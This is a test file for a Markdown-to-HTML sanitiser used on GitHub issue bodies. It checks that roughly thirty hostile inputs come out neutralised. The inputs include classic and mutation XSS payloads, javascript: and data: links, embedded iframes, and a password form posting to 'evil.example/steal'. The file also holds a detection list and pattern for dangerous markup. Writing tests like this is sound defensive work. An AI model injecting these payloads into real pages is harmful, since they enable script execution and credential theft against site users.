import type { Element, Root } from 'hast';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { renderBody } from '../../src/lib/sync/body.ts';

const ISSUE = 'https://github.com/acme/ml-platform/issues/7';
const html = (markdown: string) => renderBody(markdown, ISSUE, 'full').bodyHTML;

/** Hostile bodies: classic XSS, URL tricks, mutation XSS through svg/math, embedding, forms and styles. */
const HOSTILE: Record<string, string> = {
  'script tag': '<script>alert(document.cookie)</script>',
  'script split across markdown': '<scr<script>ipt>alert(1)</script>',
  'img onerror': '<img src=x onerror="alert(1)">',
  'event handler on a link': '<a href="https://example.com" onclick="alert(1)" onmouseover=alert(2)>x</a>',
  'javascript: link (markdown)': '[click](javascript:alert(1))',
  'javascript: link (html)': '<a href="javascript:alert(1)">x</a>',
  'javascript: with entity-encoded tab': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'javascript: upper case and spaces': '<a href="  JaVaScRiPt:alert(1)">x</a>',
  'vbscript: link': '<a href="vbscript:msgbox(1)">x</a>',
  'data: link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'data: image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'svg onload': '<svg onload=alert(1)><circle r=10 /></svg>',
  'svg with foreignObject':
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  'svg/style mutation': '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  'math/mglyph mutation':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  iframe: '<iframe src="https://evil.example/"></iframe>',
  'object and embed':
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  'form with password field':
    '<form action="https://evil.example/steal"><input type="password" name="p"><button>Sign in</button></form>',
  'style element': '<style>body { display: none }</style>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'base tag': '<base href="https://evil.example/">',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  template: '<template><img src=x onerror=alert(1)></template>',
  'details ontoggle': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  srcdoc: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  formaction: '<button formaction="javascript:alert(1)">x</button>',
  'id clobbering': '<a id="__proto__" name="location">x</a>',
};

const FORBIDDEN_ELEMENTS = new Set([
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'form',
  'button',
  'svg',
  'math',
  'meta',
  'base',
  'link',
  'template',
  'noscript',
  'textarea',
  'select',
]);

/** Parses the output as a browser would and lists anything an allowlist should never let through. */
function dangers(output: string): string[] {
  const tree = unified().use(rehypeParse, { fragment: true }).parse(output) as Root;
  const found: string[] = [];
  visit(tree, 'element', (node: Element) => {
    if (FORBIDDEN_ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on/i.test(name)) found.push(`${name} handler`);
      if (name === 'style' || name === 'srcDoc' || name === 'formAction') found.push(name);
      if ((name === 'href' || name === 'src') && !/^(https?|mailto):/i.test(String(value)))
        found.push(`${name}=${String(value)}`);
      if (node.tagName === 'input' && name === 'type' && value !== 'checkbox')
        found.push(`input type ${String(value)}`);
    }
  });
  return found;
}

describe('issue body rendering and sanitising', () => {
  it.each(Object.entries(HOSTILE))('neutralises %s', (_name, payload) => {
    const output = html(payload);
    expect(dangers(output)).toEqual([]);
    // Outside attribute values (where such text is inert), nothing of the payload's machinery is left.
    const markup = output.replace(/="[^"]*"/g, '=""');
    expect(markup).not.toMatch(
      /javascript:|vbscript:|data:|onerror|onload|onclick|ontoggle|<script|<style|<iframe/i,
    );
  });

  it('sanitises the same way when a hostile payload sits inside ordinary Markdown', () => {
    const body = Object.values(HOSTILE)
      .map((p, i) => `## Finding ${i}\n\nSome *context*.\n\n${p}\n\n- item`)
      .join('\n\n');
    const output = html(body);
    expect(dangers(output)).toEqual([]);
    expect(output).toContain('<h2>Finding 0</h2>');
  });

  it('is stable: sanitising its own output changes nothing', () => {
    for (const payload of Object.values(HOSTILE)) {
      const once = html(payload);
      expect(dangers(html(once))).toEqual([]);
    }
  });

  it('keeps GitHub-flavoured Markdown: tables, task lists, code, strikethrough and details', () => {
    const output = html(
      '| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```py\nprint(1)\n```\n\n~~old~~\n\n<details><summary>More</summary>\n\nhidden\n</details>',
    );
    expect(output).toContain('<table>');
    expect(output).toContain('<input type="checkbox" checked disabled>');
    expect(output).toContain('<code class="language-py">');
    expect(output).toContain('<del>old</del>');
    expect(output).toContain('<details><summary>More</summary>');
  });

  it('points relative links and images back at GitHub', () => {
    const output = html(
      '[runbook](../blob/main/docs/runbook.md) [section](#impact) ![diagram](/acme/ml-platform/raw/main/d.png)',
    );
    expect(output).toContain('href="https://github.com/acme/ml-platform/blob/main/docs/runbook.md"');
    expect(output).toContain('href="https://github.com/acme/ml-platform/issues/7#impact"');
    expect(output).toContain('src="https://github.com/acme/ml-platform/raw/main/d.png"');
  });

  it('drops expiring signed image URLs and keeps their alt text', () => {
    const output = html(
      '![screenshot](https://private-user-images.githubusercontent.com/1/2.png?jwt=eyJ) ' +
        '![s3](https://bucket.s3.amazonaws.com/a.png?X-Amz-Signature=abc&X-Amz-Expires=300) ![plain](https://example.com/a.png)',
    );
    expect(output).not.toContain('private-user-images');
    expect(output).not.toContain('X-Amz-Signature');
    expect(output).toContain('[image: screenshot]');
    expect(output).toContain('src="https://example.com/a.png"');
  });

  it('makes a plain-text excerpt of at most 300 characters from the sanitised body', () => {
    const { excerpt } = renderBody(
      `# Title\n\n<script>secret()</script>${'word '.repeat(200)}`,
      ISSUE,
      'full',
    );
    expect(excerpt.length).toBeLessThanOrEqual(300);
    expect(excerpt.startsWith('Title word word')).toBe(true);
    expect(excerpt).not.toContain('secret');
    expect(excerpt.endsWith('…')).toBe(true);
  });

  it('honours the body modes full, excerpt and none', () => {
    expect(renderBody('**hi**', ISSUE, 'full')).toEqual({
      bodyHTML: '<p><strong>hi</strong></p>',
      excerpt: 'hi',
    });
    expect(renderBody('**hi**', ISSUE, 'excerpt')).toEqual({ bodyHTML: '', excerpt: 'hi' });
    expect(renderBody('**hi**', ISSUE, 'none')).toEqual({ bodyHTML: '', excerpt: '' });
  });
});
